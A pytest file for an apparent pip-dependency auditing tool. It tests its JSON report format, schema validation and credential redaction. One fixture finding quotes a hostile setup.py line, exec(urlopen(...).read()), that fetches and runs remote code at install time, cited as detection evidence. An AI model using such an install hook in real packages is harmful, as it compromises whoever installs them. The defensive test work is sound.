"""The JSON report (schema 1) is exactly the documented example and follows the written schema."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import jsonschema
import pytest
from jsonschema import Draft202012Validator

from safepip.findings import Finding, Location, Severity
from safepip.policy.verdict import decide
from safepip.report.interface import Report
from safepip.report.json import JsonFormatter
from tests.report.conftest import resolved

FILES = "https://files.pythonhosted.org/packages/"


def documented_report() -> Report:
    """The audit behind tests/data/report-example.json (the README example)."""
    packages = (
        resolved("requests", "2.34.2", "requests-2.34.2-py3-none-any.whl",
                 sha="2a0d60c172f83ac6ab31e4554906c0f3b3588d37b5cb939b1c061f4907e278e0",
                 requested=True, dependencies=("urllib3",), url_base=FILES + "a0/f4/"),
        resolved("urllib3", "2.8.0", "urllib3-2.8.0-py3-none-any.whl",
                 sha="0cf3cae568d36aa9576b28dfb35f11328f1cb974ca7647d9475ebb86c75ac6e3",
                 url_base=FILES + "92/9d/"),
        resolved("reqeusts", "0.0.1", "reqeusts-0.0.1.tar.gz",
                 sha="5d0c3e0f3a2b7a8f2f8a0f5f6c1e7d9b3c4a5e6f708192a3b4c5d6e7f8091a2b",
                 requested=True, source="pkg-info", url_base=FILES + "3c/71/"),
    )
    findings = (
        Finding("name/typosquat", Severity.HIGH, "reqeusts", "0.0.1",
                "'reqeusts' is one swap away from the popular project 'requests'; check the "
                "spelling.", evidence="transposition of 'requests' (rank 4)"),
        Finding("hook/network-fetch", Severity.CRITICAL, "reqeusts", "0.0.1",
                "setup.py downloads a file and runs it at install time; do not install.",
                location=Location("reqeusts-0.0.1/setup.py", 7),
                evidence="exec(urlopen('https://203.0.113.7/p').read())"),
    )
    return Report(verdict=decide(findings), packages=packages, findings=findings,
                  origins={"reqeusts": Location("requirements.txt", 3)},
                  inputs=("requirements.txt",))


@pytest.fixture
def report_schema(load_json: Callable[[str], Any]) -> Draft202012Validator:
    schema = load_json("report-schema.json")
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema)


def test_output_is_exactly_the_documented_example(load_json: Callable[[str], Any]) -> None:
    produced = json.loads(JsonFormatter().format(documented_report()))
    assert produced == load_json("report-example.json")


def test_documented_example_follows_the_schema(
    load_json: Callable[[str], Any], report_schema: Draft202012Validator,
) -> None:
    report_schema.validate(load_json("report-example.json"))


def test_every_report_shape_follows_the_schema(
    sample_report: Report, empty_report: Report, report_schema: Draft202012Validator,
) -> None:
    for report in (sample_report, empty_report):
        document = json.loads(JsonFormatter().format(report))
        report_schema.validate(document)
    assert json.loads(JsonFormatter().format(empty_report)) == {
        "schema": 1, "verdict": "allow", "packages": [], "findings": [],
    }


def test_findings_are_ordered_most_severe_first(sample_report: Report) -> None:
    document = json.loads(JsonFormatter().format(sample_report))
    severities = [f["severity"] for f in document["findings"]]
    assert severities == ["critical", "high", "medium", "low", "info"]


def test_credentials_in_artifact_urls_are_redacted(sample_report: Report) -> None:
    secret = resolved("private-lib", "1.0", "private_lib-1.0-py3-none-any.whl", sha="d" * 64,
                      url_base="https://alice:s3cret@pypi.internal.example/files/")
    report = Report(verdict=sample_report.verdict, packages=(secret,))
    text = JsonFormatter().format(report)
    assert "s3cret" not in text and "alice" not in text
    assert "https://***@pypi.internal.example/files/" in text


@pytest.mark.parametrize(
    "mutation",
    [
        lambda d: d.pop("verdict"),
        lambda d: d.update(schema=2),
        lambda d: d.update(verdict="maybe"),
        lambda d: d["findings"][0].update(severity="severe"),
        lambda d: d["findings"][0].update(rule="typosquat"),
        lambda d: d["packages"][0]["artifact"].update(sha256="xyz"),
        lambda d: d["packages"][0].update(metadata_source="guess"),
        lambda d: d["findings"][0].update(location={"path": "setup.py", "line": 0}),
        lambda d: d["packages"][0].update(surprise=True),
    ],
)
def test_schema_rejects_documents_that_break_the_contract(
    load_json: Callable[[str], Any], report_schema: Draft202012Validator,
    mutation: Callable[[dict[str, Any]], object],
) -> None:
    document = copy.deepcopy(load_json("report-example.json"))
    mutation(document)
    with pytest.raises(jsonschema.ValidationError):
        report_schema.validate(document)
